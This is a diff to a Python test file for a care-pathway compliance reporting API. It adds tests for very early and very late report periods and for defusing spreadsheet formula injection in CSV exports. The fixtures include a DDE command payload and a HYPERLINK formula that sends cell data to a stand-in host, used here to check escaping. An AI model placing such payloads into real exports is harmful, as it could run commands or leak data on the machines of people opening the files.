@@ -14,6 +14,7 @@ from zoneinfo import ZoneInfo
 from lxml import etree
 
 from carepath.engine.clock import ManualClock
+from carepath.engine.usecases.reports import MeasureCompliance, Miss, misses_csv, report_csv
 from tests.support import diagrams as d
 from tests.support.api import ApiClient
 
@@ -152,3 +153,24 @@ def test_reports_refuse_what_does_not_fit(api: ApiClient) -> None:
                         params={"from": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"})
     assert backwards.status_code == 422
     assert api.get("/api/reports/compliance", auditor, params={"format": "pdf"}).status_code == 422
+
+
+def test_a_period_at_the_ends_of_the_calendar_is_answered(shipped: ApiClient) -> None:
+    auditor = shipped.user("auditor")
+    for params in ({"from": "0001-01-01T00:00:00Z"}, {"to": "9999-12-31T00:00:00Z"},
+                   {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T00:00:00Z"}):
+        response = shipped.get("/api/reports/compliance", auditor, params={"pathway": "transition-of-care", **params})
+        assert response.status_code == 200, (params, response.text)
+        assert {m["measure_id"] for m in response.json()["measures"]} == {
+            "tcm-interactive-contact", "tcm-face-to-face-7", "tcm-face-to-face-14", "hedis-mrp"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_defused() -> None:
+    row = MeasureCompliance("p", "m-1", "=cmd|' /C calc'!A0", "source")
+    row.misses.append(Miss("i-1", "@SUM(1)", '=HYPERLINK("http://x/?"&A1)', None, "-2+3", ["+ana"], ["nurse"]))
+    [line] = list(csv.DictReader(io.StringIO(misses_csv([row]))))
+    assert (line["patient_id"], line["business_key"], line["detail"], line["held_by"]) == (
+        "'@SUM(1)", "'=HYPERLINK(\"http://x/?\"&A1)", "'-2+3", "'+ana")
+    assert line["offered_to"] == "nurse" and line["instance_id"] == "i-1"
+    [summary] = list(csv.DictReader(io.StringIO(report_csv([row]))))
+    assert summary["name"] == "'=cmd|' /C calc'!A0" and summary["denominator"] == "0"
